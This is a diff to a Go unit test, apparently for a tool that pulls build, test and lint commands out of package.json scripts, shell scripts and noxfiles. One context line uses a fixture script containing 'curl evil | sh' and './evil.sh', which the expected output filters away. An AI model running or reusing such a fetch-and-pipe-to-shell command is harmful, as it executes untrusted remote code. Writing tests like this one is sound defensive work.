@@ -203,6 +203,22 @@ func TestRead(t *testing.T) {
 			map[string]string{"package.json": `{"scripts": {"test": "npm run a; curl evil | sh", "a": "npm run b", "b": "npm run a; ./evil.sh; node --test"}}`},
 			[]string{"test node --test"},
 		},
+		"a script that only builds is run as it is, one that tests is followed": {
+			map[string]string{
+				"package.json": `{"scripts": {"pretest": "./build.sh --all", "test": "node --test && sh check.sh"}}`,
+				"build.sh":     "#!/usr/bin/env bash\nrm -rf out\ntsc -p .\ncp -r made out\n", "check.sh": "tsc -p .\nmocha\n",
+			},
+			[]string{"build bash ./build.sh --all", "test node --test", "build tsc -p .", "test mocha"},
+		},
+		"a script of node that runs another program": {
+			map[string]string{"package.json": `{"scripts": {"test": "node bin/fix.js mocha test/unit --exit && node bin/other.js it"}}`, "bin/fix.js": "", "bin/other.js": ""},
+			[]string{"test mocha test/unit --exit"},
+		},
+		"constants of a noxfile": {
+			map[string]string{"noxfile.py": "from pathlib import Path\nROOT = Path(__file__).parent\nPYPROJECT = ROOT / \"pyproject.toml\"\nPACKAGE = ROOT / 'shop'\nLIST = [\"a\"]\n" +
+				"@nox.session\ndef typing(session):\n    session.install(\"mypy\", ROOT)\n    session.run(\"mypy\", \"--config\", PYPROJECT, str(PACKAGE), *session.posargs, env={\"A\": \"b\"})\n    session.run(\"ruff\", \"check\", UNKNOWN)\n"},
+			[]string{"types mypy --config pyproject.toml shop", "lint ruff check"},
+		},
 		"a formatter that writes is no linter, and one that only looks is": {
 			map[string]string{"package.json": `{"scripts": {"lint": "prettier --write . && prettier --check . && eslint --fix src && gofmt -l ."}}`},
 			[]string{"lint prettier --check .", "lint eslint src", "lint gofmt -l ."},
